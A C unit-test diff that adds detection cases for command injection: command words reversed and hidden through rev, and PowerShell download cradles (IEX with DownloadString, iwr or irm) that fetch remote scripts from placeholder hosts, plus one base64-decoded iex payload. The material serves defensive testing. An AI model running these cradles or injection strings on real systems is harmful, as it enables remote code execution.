@@ -102,12 +102,50 @@ static void test_cmdi_arg_no_blank(void **st)
 	rt_run("cmdi-arg-no-blank", t, sizeof(t) / sizeof(t[0]));
 }
 
+/* a command word written backwards and turned by rev in a substitution */
+static void test_cmdi_rev_word(void **st)
+{
+	(void)st;
+	static const struct rtcase t[] = {
+		{"abc$($(echo vne|rev))||", C},
+		{"1`$(echo ohce|rev) vulnerable`", C},
+		{"x;$(echo 'imaohw' | rev)", C},
+		{"echo olleh | rev", N},
+		{"rev 2.1 | echo chamber review", N},
+	};
+	rt_run("cmdi-rev-word", t, sizeof(t) / sizeof(t[0]));
+}
+
+/* PowerShell's Invoke-Expression given what it fetched or decoded: the
+ * download cradles (as "iwr host | iex" is a download piped into a
+ * shell) */
+static void test_cmdi_ps_cradle(void **st)
+{
+	(void)st;
+	static const struct rtcase t[] = {
+		{"IEX(New-Object Net.WebClient).DownloadString('http://10.0.0.5/p.ps1')", C},
+		{"IEX (iwr 'http://10.0.0.5/p.ps1' -UseBasicParsing)", C},
+		{"iex(irm x.oob.example/r)", C},
+		{"; Invoke-Expression (Invoke-WebRequest http://x/a).Content", C},
+		{"iex([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('dwBoAG8AYQBtAGkA')))", C},
+		{"x' ; iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/a')) #", C},
+		{"iex is short for Invoke-Expression; avoid it.", N},
+		{"Never run iex (iwr ...) from untrusted sites.", N},
+		{"Invoke-WebRequest -Uri https://example.com -OutFile page.html", N},
+		{"the IEX (Investors Exchange) feed", N},
+		{"Apex(New-Object) pattern", N},
+	};
+	rt_run("cmdi-ps-cradle", t, sizeof(t) / sizeof(t[0]));
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_cmdi_qx_any_delim),
 		cmocka_unit_test(test_cmdi_default_spelt),
 		cmocka_unit_test(test_cmdi_arg_no_blank),
+		cmocka_unit_test(test_cmdi_rev_word),
+		cmocka_unit_test(test_cmdi_ps_cradle),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
